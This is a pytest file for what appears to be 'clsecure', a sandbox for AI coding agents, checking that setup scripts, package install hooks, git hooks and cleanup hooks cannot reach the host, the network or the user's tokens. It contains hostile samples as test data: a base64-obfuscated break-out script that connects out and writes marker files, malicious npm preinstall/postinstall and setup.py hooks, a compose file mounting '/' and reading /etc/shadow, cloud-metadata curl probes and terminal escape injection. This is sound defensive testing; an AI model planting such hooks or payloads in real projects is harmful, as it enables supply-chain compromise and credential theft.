"""B13, E7, E8, F7, I4, I5: what runs inside besides the agent: setup, packages, hooks, all others' code.

Nothing of it runs on the host, goes out past the policy, outlives its time, or leaves a credential behind.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import json
import os
import secrets
import shutil
import socket
import tarfile
import time
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path

import pexpect
import pytest

from clsecure.session.store import session_key
from tests.support import registries
from tests.support.hostile import Ear, Target, canary, files_containing, processes_with, sampling
from tests.support.names import own_address
from tests.support.person import SYSTEM_PATH, Person
from tests.support.terminals import at_terminal

pytestmark = [pytest.mark.root, pytest.mark.timeout(240)]

# Tries to leave by every address that it is given, and to leave a mark where the user lives.
BREAKOUT = """
import os, socket, sys
home, mark, *places = sys.argv[1:]
for place in places:
    host, port = place.rsplit("@", 1)
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as probe:
                probe.settimeout(3)
                probe.connect((host, int(port)))
                probe.send(mark.encode())
        except OSError:
            pass
for path in (home + "/" + mark, "/tmp/" + mark, "/var/tmp/" + mark):
    try:
        open(path, "w").write(mark)
    except OSError:
        pass
print("broke-out-as", os.getuid(), flush=True)
# Package managers swallow what scripts print.
with open(os.path.expanduser("~/broken-out"), "a") as file:
    print(os.environ.get("WHO", "somebody"), os.getuid(), file=file)
"""


@pytest.fixture
def place(target: Target) -> Iterator[Target]:
    """A repository of its own for each test: hooks and lock files are committed."""
    person = target.person
    repository = person.repository(f"inside-{target.mode}-{secrets.token_hex(3)}")
    yield replace(target, repository=repository)
    for entry in person.worker_accounts():
        if entry["project"] == str(repository):
            person.clsecure("cleanup", "--yes", str(entry["name"]))


def commit(target: Target, files: Mapping[str, tuple[bytes, int]]) -> None:
    person, top = target.person, target.repository
    for name, (data, mode) in files.items():
        person.run(["mkdir", "-p", str((top / name).parent)]).check()
        person.write(top / name, data, mode=mode)
    person.git(top, "add", "--force", ".")
    person.git(top, "commit", "--quiet", "-m", "Files of somebody else's")


def setup_script(person: Person, text: str) -> dict[str, str]:
    path = person.home / f"setup-{secrets.token_hex(3)}"
    person.write(path, text.encode(), mode=0o700)
    return {"CLSECURE_SETUP_SCRIPT": str(path)}


def tarball(scripts: Mapping[str, str]) -> tuple[bytes, str]:
    """Return a package of npm's with scripts, and its integrity."""
    package = {"name": "hostile", "version": "1.0.0", "scripts": scripts}
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz") as archive:
        data = json.dumps(package).encode()
        entry = tarfile.TarInfo("package/package.json")
        entry.size, entry.mode = len(data), 0o644
        archive.addfile(entry, io.BytesIO(data))
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(target.getvalue()).digest()).decode()
    return target.getvalue(), integrity


def npm_files(script: str) -> dict[str, tuple[bytes, int]]:
    """Return a project whose own scripts and whose dependency's are hostile."""
    data, integrity = tarball({"preinstall": script, "install": script, "postinstall": script})
    package = {
        "name": "p", "version": "1.0.0", "dependencies": {"hostile": "file:hostile.tgz"},
        "scripts": {"preinstall": script, "prepare": script},
    }  # fmt: skip
    inner = {
        "version": "1.0.0",
        "resolved": "file:hostile.tgz",
        "integrity": integrity,
        "hasInstallScript": True,
    }
    lock = {
        "name": "p", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
        "packages": {"": {**package, "hasInstallScript": True}, "node_modules/hostile": inner},
    }  # fmt: skip
    return {
        "package.json": (json.dumps(package).encode(), 0o644),
        "package-lock.json": (json.dumps(lock).encode(), 0o644),
        "hostile.tgz": (data, 0o644),
    }


def breakout(target: Target, mark: str, *ears: Ear) -> str:
    """Return a shell line that runs the break-out."""
    places = " ".join(f"{ear.address[0]}@{ear.port}" for ear in ears)
    source = base64.b64encode(BREAKOUT.encode()).decode()
    return (
        f'/usr/bin/python3 -I -c "import base64; exec(base64.b64decode(\\"{source}\\"))" '
        f"{target.person.home} {mark} {places}"
    )


def nothing_outside(target: Target, mark: str, *ears: Ear) -> None:
    assert [ear.heard for ear in ears] == [[] for _ in ears]
    for directory in (target.person.home, Path("/tmp"), Path("/var/tmp")):
        assert not (directory / mark).exists()
    for ear in ears:
        ear.control()


def state_of(target: Target) -> Path:
    key = session_key(str(target.repository), target.session)
    return target.person.home / ".local/state/clsecure/sessions" / key


def test_b13_i4_setup_packages_and_hooks_break_out_of_nothing(place: Target) -> None:
    """Setup, npm's and pip's scripts, git's, and the cleanup hook, at the end and at removal, offline."""
    if shutil.which("npm", path=SYSTEM_PATH) is None:
        pytest.skip("npm is not installed")
    person, mark, own = place.person, canary(), f"192.0.2.{1 + secrets.randbelow(250)}"
    with own_address(own), Ear(("127.0.0.1", 0)) as loopback, Ear((own, 0)) as outer:
        line = breakout(place, mark, loopback, outer)
        shell = f"#!/bin/sh\n{line}\n".encode()
        setup_py = (
            f"import os\nos.environ['WHO'] = 'pip'\nos.system({line!r})\n"
            "from setuptools import setup\nsetup(name='h', version='1')\n"
        )
        commit(
            place,
            {
                **npm_files("WHO=npm:$npm_package_name:$npm_lifecycle_event sh $INIT_CWD/out.sh"),
                "out.sh": (shell, 0o755),
                "setup.py": (setup_py.encode(), 0o644),
                ".clsecure/on-cleanup": (shell + b"echo cleaned-up\nexit 3\n", 0o755),
            },
        )
        env = setup_script(
            person,
            f"#!/bin/sh\nWHO=script; export WHO\n{line}\n"
            "printf '#!/bin/sh\\nWHO=git sh out.sh >&2\\n' >~/monitor; chmod +x ~/monitor\n"
            "git config core.fsmonitor ~/monitor\n",
        )
        done = place.attack("sort -u ~/broken-out", "--install-deps", finish="keep", env=env)
        uid = 0 if place.mode == "container" else place.account()["uid"]
        wanted = ["script", "git", "npm:p:preinstall", "npm:p:prepare", "npm:hostile:postinstall"]
        if place.mode != "container":
            wanted.append("pip")  # python 3.13 has no setuptools of its own, and offline none comes
        assert {f"{who} {uid}" for who in wanted} <= set(done.said.splitlines())
        assert [s["name"] for s in done.result["setup"]] == ["script", "npm", "pip"]
        assert any("status 3" in w and "cleaned-up" in w for w in done.result["warnings"])
        assert f"broke-out-as {uid}" in (state_of(place) / "cleanup.log").read_text()
        removed = person.clsecure("cleanup", "--yes", str(place.account()["name"])).check()
        assert "cleaned-up" in removed.errors
        nothing_outside(place, mark, loopback, outer)


def test_b13_a_setup_and_a_hook_with_an_allowed_host_reach_no_other(place: Target) -> None:
    person, mark, own = place.person, canary(), f"192.0.2.{1 + secrets.randbelow(250)}"
    with (
        registries.Registries() as allowed,
        Ear(("127.0.0.1", 0)) as loopback,
        own_address(own),
        Ear((own, 0)) as outer,
    ):
        curl = "curl --silent --max-time 10 --output /dev/null --write-out '%{http_code} '"
        urls = [f"http://host.clsecure.internal:{allowed.port}/simple/clsecure-sample/"]
        urls += [f"http://{ear.address[0]}:{ear.port}/" for ear in (loopback, outer)]
        urls += [f"http://host.clsecure.internal:{loopback.port}/", "http://169.254.169.254/"]
        asked = "; ".join(f"{curl} {url}" for url in urls)
        tunnels = "; ".join(f"{curl} --proxytunnel --noproxy '' {url}" for url in urls[1:])
        shell = f"#!/bin/sh\n({asked})\n({tunnels})\n{breakout(place, mark, loopback, outer)}\nexit 3\n"
        commit(place, {".clsecure/on-cleanup": (shell.encode(), 0o755)})
        env = setup_script(person, shell)
        open_to = ("--agent", "demo", "--credentials", "none", "--allow-domain", f"localhost:{allowed.port}")
        done = replace(place, options=open_to).attack("true", finish="keep", env=env)
        for name in ("setup.log", "cleanup.log"):
            said = (state_of(place) / name).read_text()
            assert said.count("200") == 1, said
            assert "broke-out-as" in said
        assert done.result["setup"][0]["exit_code"] == 3
        nothing_outside(place, mark, loopback, outer)


def test_e7_the_token_of_the_setup_is_nowhere_afterwards(place: Target) -> None:
    """Not in files, environments or argument vectors: inside, in the worker's home, in the tool's state."""
    token = "gho_" + secrets.token_hex(18)
    env = setup_script(
        place.person,
        '#!/bin/sh\nset -x\necho "$GH_TOKEN"\n[ -n "$GH_TOKEN" ] || exit 1\n'
        "(trap '' TERM HUP; exec setsid sleep 3600) &\n",
    )
    env |= {"GH_TOKEN": token, "CLSECURE_GITHUB_TOKEN": "yes"}
    search = (
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c gho_; "
        "grep -rlsI gho_ ~ /tmp /var/tmp /dev/shm /run 2>/dev/null | grep -c .; pgrep -c sleep; true"
    )
    with sampling(token) as seen:
        done = place.attack(search, finish="keep", env=env)
    assert done.result["setup"][0]["status"] == "ok"
    assert done.said.split() == ["0", "0", "0"]
    assert seen == []
    assert token not in done.outcome.errors + done.outcome.text
    assert files_containing(Path(str(place.account()["home"])), token) == []
    assert files_containing(state_of(place), token) == []
    assert (state_of(place) / "setup.log").read_text().count("********") >= 2


@contextlib.contextmanager
def docker_socket(person: Person, directory: Path) -> Iterator[None]:
    """Listen where the person's docker would."""
    path = directory / "socket"
    with socket.socket(socket.AF_UNIX) as docker:
        docker.bind(str(path))
        docker.listen()
        os.chown(path, person.uid, person.gid)
        try:
            yield
        finally:
            path.unlink()


def test_e8_a_compose_file_at_cleanup_is_read_inside_only(place: Target) -> None:
    """With docker lent, no hook and a hostile compose file; the docker on the user's PATH is never asked."""
    person, mark = place.person, canary()
    tools = person.home / "docker-tools"
    person.run(["mkdir", "-p", str(tools)]).check()
    person.write(tools / "docker", f"#!/bin/sh\necho >{person.home}/{mark}\n".encode(), mode=0o755)
    env = {"PATH": f"{tools}:{SYSTEM_PATH}", "DOCKER_HOST": f"unix://{tools}/socket"}
    lent = ("--allow-docker=host", "--yes")
    hostile = (
        b"services:\n  x: {image: x, volumes: ['/:/host'], env_file: /etc/shadow}\ninclude: [/dev/zero]\n"
    )
    commit(place, {"compose.yaml": (hostile, 0o644)})
    fake = (
        "mkdir -p ~/.local/bin; printf '#!/bin/sh\\necho \"docker $*\" as $(id -u); exit 5\\n' "
        ">~/.local/bin/docker; chmod +x ~/.local/bin/docker"
    )
    with docker_socket(person, tools):
        stopped = place.attack(fake, *lent, finish="keep", env=env)
    assert any(
        "docker compose down failed with status 5: docker compose down as " in warning
        for warning in stopped.result["warnings"]
    )
    # Nobody says that docker may be used again: neither a session that goes on, nor a removal.
    again = place.attack("true", "--resume", finish="keep", env=env)
    assert not any("docker" in warning for warning in again.result["warnings"])
    removed = person.clsecure("cleanup", "--yes", str(place.account()["name"]), env=env).check()
    assert "docker" not in removed.errors
    assert not (person.home / mark).exists()


def test_e8_compose_files_count_neither_without_an_engine_nor_where_the_user_says_so(place: Target) -> None:
    person = place.person
    commit(place, {"docker-compose.yml": (b"services: {}\n", 0o644)})
    fake = "mkdir -p ~/.local/bin; cp /bin/false ~/.local/bin/docker"
    place.attack(fake, finish="keep")
    record = state_of(place) / "session.json"
    said = json.loads(record.read_text())
    assert said["docker_access"] == "none"
    tools = person.home / "docker-socket"
    person.run(["mkdir", "-p", str(tools)]).check()
    env = {"DOCKER_HOST": f"unix://{tools}/socket", "CLSECURE_SKIP_DOCKER_AUTODETECT": "true"}
    with docker_socket(person, tools):
        done = place.attack("true", "--fresh", "--allow-docker=host", "--yes", finish="keep", env=env)
    assert "cleanup" not in done.result["phases"]


@pytest.mark.parametrize("level", ["stop", "purge"])
def test_f7_a_hook_that_ignores_term_forks_and_holds_its_pipes_ends_in_time(
    place: Target, level: str
) -> None:
    person, word = place.person, canary()
    hook = f"""#!/bin/bash
    [[ $CLSECURE_CLEANUP_LEVEL == {level} ]] || exit 0
    trap '' TERM HUP INT PIPE
    for _ in 1 2 3; do (trap '' TERM HUP INT PIPE; exec -a {word} setsid sleep 3600) & done
    kill -STOP $PPID
    echo {word}
    while :; do sleep 3600; done
    """
    commit(place, {".clsecure/on-cleanup": (hook.encode(), 0o755)})
    begun = time.monotonic()
    done = place.attack("echo work >work", finish="keep", env={"CLSECURE_CLEANUP_HOOK_TIMEOUT": "5"})
    said = done.outcome.errors
    if level == "purge":
        begun = time.monotonic()
        said = person.clsecure("cleanup", "--yes", str(place.account()["name"])).check().errors
    assert time.monotonic() - begun < 60
    assert f"did not end in time and was ended: {word}" in said
    assert processes_with(word) == []
    if level == "stop":
        assert done.result["kept"] is True


def test_f7_endless_output_of_a_hook_and_of_a_setup_is_bounded(place: Target) -> None:
    flood = "#!/bin/sh\nyes $(head -c 3000 /dev/zero | tr '\\0' x) | head -c 40000000\nexit 3\n"
    commit(place, {".clsecure/on-cleanup": (flood.encode(), 0o755)})
    done = place.attack("true", finish="keep", env=setup_script(place.person, flood))
    for name in ("setup.log", "cleanup.log"):
        size = (state_of(place) / name).stat().st_size
        assert 9 << 20 < size <= 11 << 20
    assert all(len(warning) < 4000 for warning in done.result["warnings"])
    assert len(done.outcome.errors) < 20_000


def test_g1_what_a_setup_prints_commands_no_terminal(place: Target) -> None:
    hostile = "\\033]0;owned\\007\\033[2J\\033]52;c;b3duZWQ=\\007\\r\\033[31m\\xc2\\x9b2J"
    env = setup_script(
        place.person,
        f"#!/bin/bash\nfor i in 1 2 3 4 5 6 7 8; do printf '{hostile} spoken\\n'; sleep 0.2; done\nexit 3\n",
    )
    argv = place.argv(["/bin/true"], finish="discard")
    argv = [word for word in argv if word not in ("--output", "json")]
    for more in ((), ("--verbose",)):
        with at_terminal(
            place.person, [argv[0], *argv[1:4], *more, *argv[4:]], cwd=place.repository, env=env
        ) as child:
            child.expect(pexpect.EOF)
            seen = child.before
        assert b"spoken" in seen
        for bad in (b"\x1b]0;", b"\x1b]52", b"\x1b[2J", b"\xc2\x9b"):
            assert bad not in seen


def test_i5_nothing_of_a_setup_is_shared_with_another_session(place: Target) -> None:
    """Caches, tools and environments of one worker are nobody else's, and not the user's."""
    person, mark = place.person, canary()
    caches = "~/.cache/pip ~/.npm/_cacache ~/.cargo/registry ~/go/pkg"
    spots = f"{caches} ~/.local/bin ~/.local/share/clsecure /tmp /var/tmp"
    plant = f"for d in {spots}; do mkdir -p $d; echo {mark} >$d/planted; done"
    env = setup_script(person, f"#!/bin/sh\n{plant}\n")
    place.attack("true", finish="keep", env=env)
    look = (
        f"grep -rls {mark[:10]}{'[' + mark[10] + ']'}{mark[11:]} ~ /tmp /var/tmp /dev/shm | grep -c . || true"
    )
    other = replace(place, session="other")
    env = setup_script(person, f"#!/bin/sh\n{look}\n")
    done = other.attack(look, finish="keep", env=env)
    assert done.said.split() == ["0"]
    assert "\n0\n" in (state_of(other) / "setup.log").read_text()
    assert not any((person.home / name).exists() for name in (".cache/pip/planted", ".npm/_cacache/planted"))


def test_e7_no_key_of_the_users_is_in_the_setups_or_the_hooks_environment(place: Target) -> None:
    person, key = place.person, "sk-ant-" + secrets.token_hex(20)
    commit(place, {".clsecure/on-cleanup": (b"#!/bin/sh\nenv\n", 0o755)})
    names = ("ANTHROPIC_API_KEY", "GH_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN")
    env = setup_script(person, "#!/bin/sh\nenv\n") | dict.fromkeys(names, key)
    place.attack("true", finish="keep", env=env)
    for name in ("setup.log", "cleanup.log"):
        said = (state_of(place) / name).read_text()
        assert "CLSECURE_PROJECT_DIR=" in said
        assert key not in said
        assert "ANTHROPIC" not in said
